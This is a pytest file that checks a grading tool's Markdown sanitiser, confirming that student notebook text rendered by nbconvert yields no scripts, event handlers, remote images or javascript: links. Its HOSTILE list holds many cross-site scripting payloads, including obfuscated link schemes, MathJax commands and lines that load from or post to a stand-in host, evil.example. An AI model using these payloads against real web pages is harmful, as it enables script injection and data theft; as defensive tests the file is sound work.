"""A student's text in the graded copy: it shows as it was meant and runs nothing."""

import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from nbconvert.filters.markdown import markdown2html

from grader.grading.escape_markdown import as_listing, escape_markdown, with_few_empty_lines

# How a link begins that names its scheme, and what a browser passes over in it.
SCHEME, IGNORED = re.compile(r"([a-zA-Z][\w+.-]*):"), re.compile(r"[\x00-\x20]")
PLAIN = {
    *(
        "p",
        "b",
        "i",
        "em",
        "strong",
        "u",
        "s",
        "del",
        "sub",
        "sup",
        "br",
        "hr",
        "kbd",
        "code",
        "small",
        "mark",
    ),
    *(
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "pre",
        "div",
        "span",
        "blockquote",
        "table",
        "thead",
        "tbody",
        "tr",
    ),
    *("th", "td", "details", "summary", "a", "img", "section", "dl", "dt", "dd"),
}


# What Markdown's own tables and lists of tasks are made of.
ALIGNED = re.compile(r"text-align: ?(?:left|center|right);?")
BOX = {"class": "task-list-item-checkbox", "type": "checkbox", "disabled": None}


class Page(HTMLParser):
    """Collects what a browser would load, follow or run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.pictures: list[str] = []
        self.handlers: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        if tag == "input" and dict(attrs) | {"checked": None} == BOX | {"checked": None}:
            return
        self.tags.add(tag)
        self.handlers += [
            name
            for name, value in attrs
            if name.startswith("on") or (name == "style" and not ALIGNED.fullmatch(value or ""))
        ]
        self.links += [value or "" for name, value in attrs if name in ("href", "action", "formaction")]
        self.pictures += [value or "" for name, value in attrs if name in ("src", "srcset", "data")]

    def handle_data(self, data: str) -> None:
        """Note a text."""
        self.text += data


def shown(text: str) -> Page:
    """Return what nbconvert makes of a Markdown cell, as a browser reads it."""
    page = Page()
    page.feed(markdown2html(text))
    return page


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<b onmouseover=alert(1)>bold</b>",
    "<b/onmouseover=alert(1)>bold</b>",
    "<details open ontoggle=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<style>*{display:none}</style>",
    "<!-- hidden",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php x ?>",
    "</div></div><form action=//evil.example><input>",
    "text\n\n<div>\n<script>alert(1)</script>\n</div>",
    "`<script>alert(1)</script>",
    "``` \n<script>alert(1)</script>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "$<script>alert(1)</script>$",
    "$$\n<script>alert(1)</script>\n$$",
    "\\begin{equation}<script>alert(1)</script>\\end{equation}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x]( \n javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]:\njavascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)>\n\n[x][x]",
    "> [x](\n> javascript:alert(1))",
    "> > [x](\n> > javascript:alert(1))",
    "> [x]:\n> javascript:alert(1)\n\n[x]",
    "> - [y]:\n>   javascript:alert(1)\n\n[y]",
    "> [x]:\n> <javascript:alert(1)>\n\n[x]",
    "[x](\n<java\tscript:alert(1)>)",
    "[x [y](javascript:alert(1))](z)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/seen.png)",
    "![x](attachment:gone.png)",
    "![x](&#97;ttachment:gone.png)",
    "![x][y]\n\n[y]: https://evil.example/seen.png",
    '[x](y "title" onclick=alert(1))',
    '[x](y "a&quot; onmouseover=&quot;alert(1)")',
    "\x00<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "# <script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("written", [escape_markdown, as_listing], ids=["prose", "listing"])
def test_nothing_runs_or_loads(text: str, written) -> None:
    """Nothing of it is a script, a handler, a picture from elsewhere or a link that runs."""
    nothing_runs(written(text))


def nothing_runs(markdown: str) -> None:
    """Insist that a page made of Markdown runs and loads nothing."""
    page = shown(markdown)
    assert page.tags <= PLAIN
    assert not page.handlers
    assert not page.pictures
    for link in page.links:
        scheme = SCHEME.match(IGNORED.sub("", unquote(link)))
        assert not scheme or scheme[1].lower() in ("http", "https", "mailto"), link


@pytest.mark.parametrize(
    "text", ["<\n: onerror=", "- [ ] a\n- [x] b", "| a | b |\n|:-:|--:|\n| 1 | 2 |", "~~a~~ https://b.org"]
)
def test_what_markdown_makes_itself_is_plain(text: str) -> None:
    """A list of definitions or tasks, and an aligned table, run and load nothing."""
    nothing_runs(escape_markdown(text))


@pytest.mark.parametrize(
    "text",
    [
        "\\href{javascript:alert(1)}{x}",
        "\\require{html}",
        "\\style{x}{y}",
        "\\htmlId{a}{b}",
        "\\mmlToken{mi}[href='x']{x}",
    ],
)
def test_commands_of_mathjax_are_disarmed(text: str) -> None:
    """A formula cannot make a link or load an extension."""
    assert "\\ " in escape_markdown(f"${text}$")
    assert text.split("{", maxsplit=1)[0] not in escape_markdown(f"${text}$")


@pytest.mark.parametrize("backslash", ["&#92;", "&#092", "&#x5c;", "&#X5C", "&bsol;"])
def test_backslash_written_as_an_entity_is_disarmed(backslash: str) -> None:
    """What the page would read as a backslash starts no command of a formula."""
    page = shown(escape_markdown(f"${backslash}href{{javascript:alert(1)}}{{x}}$"))
    assert "\\href" not in page.text


HONEST = [
    "# Title\n\nSome *emphasis*, **strong**, `code` and a [link](https://pytorch.org/docs?a=1&b=2#c).",
    "A [neighbor](../ch03/notes.md), a [heading](#the-target), [mail](mailto:ada@example.org).",
    "$\\sqrt{d_k}$ and $$\\begin{aligned}\nQ &= X W_Q \\\\ a & b < c\n\\end{aligned}$$",
    "- a\n- b\n\n1. c\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "```python\nx = a[0](b)\ny = {k: v for k, v in z}\n```",
    "H<sub>2</sub>O, <b>bold</b><br>next <details><summary>Why?</summary>\n\nBecause.\n\n</details>",
    "![plot](data:image/png;base64,iVBORw0KGgo=)",
    "Olá, ação: 中文 🙂 5 < 6 > 3 & so on [1], [x] done",
]


@pytest.mark.parametrize("text", HONEST)
def test_ordinary_markdown_is_left_as_it_is(text: str) -> None:
    """Emphasis, links, formulas, lists, tables, listings and plain tags are not touched."""
    assert escape_markdown(text) == text


def test_comparison_in_a_formula_means_the_same() -> None:
    """A space after a less-than sign is invisible in a formula, and makes it no tag."""
    assert escape_markdown("$a<b$") == "$a< b$"


@pytest.mark.parametrize(
    "cell",
    ["x = 1" + "\n\t" * 200_000 + "y", "\n" * 400_000, " \n" * 200_000, ("\n" * 40 + "x") * 10_000],
)
def test_empty_lines_are_cut_in_what_is_shown(cell: str) -> None:
    """A highlighter that reads each run of them from every line on is done soon."""
    shown = with_few_empty_lines(cell)
    assert max(map(len, re.findall(r"\n+", re.sub(r"[ \t]", "", shown)))) <= 51
    assert shown.split() == cell.split()


def test_formulas_that_do_not_end_are_not_looked_for_again_and_again() -> None:
    """As many as anybody writes are left; of a hundred thousand none is one any more."""
    few, many = "\\begin{a}" * 10, "\\begin{a}" * 100_000
    assert escape_markdown(few) == few
    assert "\\begin" not in escape_markdown(many)


def test_listing_shows_a_text_with_fences() -> None:
    """A raw cell is shown letter by letter, even if it holds the marks of a listing."""
    assert "``````" in as_listing("`````\nx")
    assert "x = 1" in shown(as_listing("`````\nx = 1\n```")).text
